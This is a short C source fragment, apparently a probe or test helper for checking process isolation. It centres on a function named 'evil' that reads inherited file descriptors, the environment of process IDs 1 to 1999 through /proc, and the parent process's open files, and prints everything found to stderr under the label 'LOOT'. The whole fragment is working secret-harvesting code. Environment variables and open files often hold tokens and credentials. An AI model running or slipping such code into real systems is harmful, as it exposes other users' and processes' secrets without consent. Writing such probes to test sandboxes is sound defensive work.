/* Prints environments, and what is behind every descriptor but the own three. */
#include <string.h>

static void show(const char *path)
{
	char text[8192];
	int fd = open(path, O_RDONLY | O_NONBLOCK);
	ssize_t got = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
	if (fd >= 0)
		close(fd);
	for (ssize_t i = 0; i < got; i++)
		if (text[i] == '\0')
			text[i] = '\n';
	if (got > 0)
		fprintf(stderr, "LOOT %s: %.*s\n", path, (int)got, text);
}

static void evil(const char *path)
{
	char name[64], text[4096];
	(void)path;
	for (int fd = 3; fd < 256; fd++) {
		ssize_t got = pread(fd, text, sizeof text, 0);
		if (got > 0)
			fprintf(stderr, "LOOT descriptor %d: %.*s\n", fd, (int)got, text);
	}
	for (int pid = 1; pid < 2000; pid++) {
		snprintf(name, sizeof name, "/proc/%d/environ", pid);
		show(name);
	}
	for (int fd = 3; fd < 64; fd++) {
		snprintf(name, sizeof name, "/proc/%d/fd/%d", getppid(), fd);
		show(name);
	}
}
